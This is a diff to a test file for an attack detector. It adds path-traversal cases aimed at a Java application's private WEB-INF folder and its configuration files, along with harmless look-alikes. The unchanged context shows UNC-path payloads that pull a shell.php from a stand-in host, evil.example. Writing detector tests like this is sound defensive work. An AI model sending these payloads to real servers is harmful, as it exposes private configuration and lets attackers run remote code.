@@ -1,7 +1,8 @@
 /**
  * XSS and path traversal, seventh round (docs/detection.md, "branch i18-xss7"): markup that
  * clobbers the DOM's own members by `id` or `name`, the Function constructor called as a template
- * tag, one `..` beside a backslash, and a server-side script on a Windows share. Each attack was
+ * tag, one `..` beside a backslash, a server-side script on a Windows share, and a Java
+ * application's private folder (WEB-INF) beyond its `web.xml`. Each attack was
  * missed before this branch and each look-alike beside it stays quiet.
  */
 import { AttackDetector } from '../../../node/analysis/attacks';
@@ -30,6 +31,9 @@ namedExamples(
     // A server-side script on a Windows share: PHP includes UNC paths as local files.
     ['a PHP script on a share by host name', 'ptrav', 'q', '\\\\evil.example\\share\\shell.php'],
     ['the same with escaped backslashes', 'ptrav', 'form', '%5c%5cevil.example%5cpub%5cinc%5cx.inc'],
+    // A Java application's private folder beyond its deployment descriptor.
+    ['compiled settings under WEB-INF', 'ptrav', 'q', '/WEB-INF/classes/application.properties'],
+    ['a Spring context file under WEB-INF, in JSON', 'ptrav', 'json', 'WEB-INF/applicationContext.xml'],
   ],
   [
     // Ordinary ids and field names: anchors and forms of rich text.
@@ -49,5 +53,7 @@ namedExamples(
     ['a regular expression with an escaped dot', 'q', '^\\d+\\..*$'],
     ['a document on a file share', 'json', '\\\\fileserver\\docs\\q3-report.xlsx'],
     ['a protocol-relative link to a page', 'q', '//cdn.example/app/index.php'],
+    ['a docs page about the folder', 'q', '/docs/java/web-inf-layout'],
+    ['a folder whose name starts alike', 'json', 'web-infrastructure/classes/readme.md'],
   ],
 );
